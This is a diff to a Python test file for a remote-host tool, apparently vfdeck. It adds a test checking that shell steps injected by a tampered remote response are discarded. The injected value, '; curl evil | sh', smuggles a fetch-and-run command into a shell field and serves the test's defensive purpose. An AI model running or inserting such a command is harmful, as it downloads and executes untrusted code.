@@ -72,12 +72,30 @@ def test_what_it_could_not_be_told_makes_it_look_at_all_of_it(host: RemoteHost, 
         return call(method, parameters, seconds)
 
     monkeypatch.setattr(connection, "call", spy)
-    assert host._take({"events": [{"number": 9000, "changed": True}], "gap": True})
+    assert host._take(connection, {"events": [{"number": 9000, "changed": True}], "gap": True})
     assert [event.action for event in host.heard()] == [LOST]
     seen = host.snapshot()
     assert asked == [{}], "no difference to what was"
     assert dataclasses.replace(host.snapshot(), taken=seen.taken) == seen
     assert asked[1:] == [{"since": 1}]
+
+
+def test_only_commands_that_vfdeck_itself_would_give_are_taken(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
+    change, seen = SetNumvfs(PF, 0), host.snapshot()
+    honest = host.plan(change, seen)
+    assert any(step.shell for step in honest.steps)
+    call = host._call
+
+    def evil(method: str, **parameters: Any) -> dict[str, Any]:
+        answer = call(method, **parameters)
+        for step in answer["plan"]["steps"]:
+            step["shell"] += "; curl evil | sh"
+        return answer
+
+    monkeypatch.setattr(host, "_call", evil)
+    plan = host.plan(change, seen)
+    assert [step.shell for step in plan.steps] == [""] * len(honest.steps)
+    assert plan == honest, "what is confirmed does not depend on it"
 
 
 class OldPython:
